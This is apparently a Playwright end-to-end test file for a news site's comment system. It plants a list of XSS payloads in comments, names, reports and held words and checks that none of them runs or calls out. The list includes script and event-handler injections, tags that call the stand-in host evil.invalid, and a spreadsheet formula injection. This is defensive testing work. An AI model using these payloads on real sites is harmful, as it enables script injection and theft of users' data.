"""What readers write is text wherever it is printed: nothing of it runs, nothing of it asks another host.

A real browser opens every surface with every payload: the public page, the answer form, the report form, the receipt
and its copies, the feeds, the desk, the list of all comments, the page of one, the reports, the words.
"""

import json

import pytest
from playwright.sync_api import Browser

from tests.e2e.inside import inside
from tests.e2e.test_every_page import NARROWEST, SIDEWAYS, SPACED
from tests.e2e.test_journey import sign_in

pytestmark = pytest.mark.browser
EVIL = "https://evil.invalid"
TEXTS = [
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<img src={EVIL}/x.png onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover=alert(1) style=position:fixed;inset:0 x='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    f'<iframe src="{EVIL}"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f'<link rel=stylesheet href="{EVIL}/x.css"><style>@import url({EVIL}/y.css)</style>',
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}"><input type=submit id=text name=text>',
    "<a href=javascript:alert(1)>x</a> javascript:alert(1)",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    f'<video><source onerror=alert(1)></video><audio src="{EVIL}/a.mp3" autoplay>',
    "{{ request }}{% load x %}{{ 7|add:7 }}${alert(1)}`${alert(1)}`",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;alert(1)",
    "\u2028alert(1)\u2029\u202e<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
]
NAMES = ["<b onclick=alert(1)>V</b>", '"><img src=x onerror=alert(1)>', "\u202eareV", "<script>alert(1)</script>"]

WRITE = """
import json
from articles.models import Article
from comments.models import Comment, HeldWord, Report
from comments.receipts import receipt_url
texts, names = json.loads({given!r})
article = Article.objects.published().filter(edition="ru").order_by("-pk").first()
rows = []
for state in ("published", "waiting"):
    for turn, text in enumerate(texts):
        who = dict(name=names[turn % len(names)], email="v@example.org")
        rows.append(Comment(article=article, text=text, state=state, **who))
made = [row for row in rows if not row.save()]
made[0].refresh_from_db()
answer = Comment.objects.create(article=article, parent=made[0], name=names[0], text=texts[0], state="published")
third = Comment.objects.create(article=article, parent=answer, name=names[1], text=texts[4], state="published")
for turn, text in enumerate(texts):
    Report.objects.create(comment=made[turn], reason="illegal", text=text, name=names[turn % len(names)])
    HeldWord.objects.get_or_create(word=text[:80], note=text)
Comment.objects.filter(pk=made[-1].pk).update(held_for=[["words", texts[0]], ["staff", texts[4]], ["trap", texts[6]]])
address = article.get_absolute_url()
print(json.dumps(dict(story=address, public=made[0].pk, waiting=made[-1].pk, receipt=receipt_url(made[-1]))))
"""


@pytest.fixture(scope="module")
def places(newsroom) -> dict:
    return json.loads(inside(newsroom, WRITE.format(given=json.dumps([TEXTS, NAMES]))).splitlines()[-1])


class Watch:
    """Everything that a hostile text would like to happen."""

    def __init__(self, context, newsroom):
        self.fired: list[str] = []
        context.on("dialog", lambda dialog: (self.fired.append(dialog.message), dialog.dismiss()))
        context.on("request", lambda request: self.asked(request.url, newsroom.address))

    def asked(self, url: str, own: str) -> None:
        if not url.startswith((own, "data:", "blob:", "about:")):
            self.fired.append(url)


def open_all(browser: Browser, newsroom, addresses: list[str], role: str = "") -> list[str]:
    with browser.new_context() as context:
        watch = Watch(context, newsroom)
        signed_in = role and sign_in(context, newsroom.address, "/admin/", newsroom.people[role])
        page = signed_in or context.new_page()
        for address in addresses:
            response = page.goto(newsroom.address + address)
            assert (response.status, response.url) == (200, newsroom.address + address)
            page.mouse.move(200, 300)
            strange = page.evaluate(
                "() => [...document.querySelectorAll('main *, #content *')].filter(one =>"
                " [...one.attributes].some(own => /^on/i.test(own.name))).map(one => one.outerHTML.slice(0, 200))"
            )
            assert strange == []
        page.wait_for_timeout(300)
        return watch.fired


def test_readers_pages(chromium, newsroom, places):
    story, public = places["story"], places["public"]
    pages = [story, f"{story}?corder=new", f"{story}?thread={public}", f"{story}comment/?reply={public}"]
    pages += [f"{story}comment/{public}/report/", places["receipt"]]
    assert open_all(chromium, newsroom, pages) == []


def test_none_of_it_widens_a_narrow_page(chromium, newsroom, places):
    with chromium.new_context(viewport=NARROWEST) as context:
        page, wide = context.new_page(), {}
        for address in (places["story"], f"{places['story']}?thread={places['public']}", places["receipt"]):
            page.goto(newsroom.address + address)
            page.evaluate(SPACED)
            wide[address] = page.evaluate(SIDEWAYS)
    assert {address: too_much for address, too_much in wide.items() if too_much > 0} == {}


def test_feeds_and_copies_are_no_pages(chromium, newsroom, places):
    """Shown or downloaded, they are read as what they are; a browser must not guess."""
    story = places["story"]
    with chromium.new_context() as context:
        for address in (f"{story}feed/rss/", f"{story}feed/atom/", f"{places['receipt']}?copy=json"):
            answer = context.request.get(newsroom.address + address)
            assert answer.status == 200
            assert "html" not in answer.headers["content-type"]
            assert answer.headers["x-content-type-options"] == "nosniff"


def test_the_desk(chromium, newsroom, places):
    desk = "/admin/comments/comment/"
    pages = [desk, f"{desk}?state=published", f"{desk}?state=all", f"{desk}{places['waiting']}/change/"]
    pages += ["/admin/comments/report/", "/admin/comments/heldword/", "/admin/"]
    assert open_all(chromium, newsroom, pages, role="chief") == []


def test_the_watch_would_see_it(chromium, newsroom, places):
    """The same payloads put in as markup fire: so the silence above means something."""
    with chromium.new_context() as context:
        watch, page = Watch(context, newsroom), context.new_page()
        page.route("**/naked", lambda route: route.fulfill(body="".join(TEXTS), content_type="text/html"))
        page.goto(f"{newsroom.address}/naked", wait_until="commit")
        for _turn in range(100):
            if "1" in watch.fired and any("evil.invalid" in event for event in watch.fired):
                return
            page.wait_for_timeout(100)
        raise AssertionError(watch.fired)
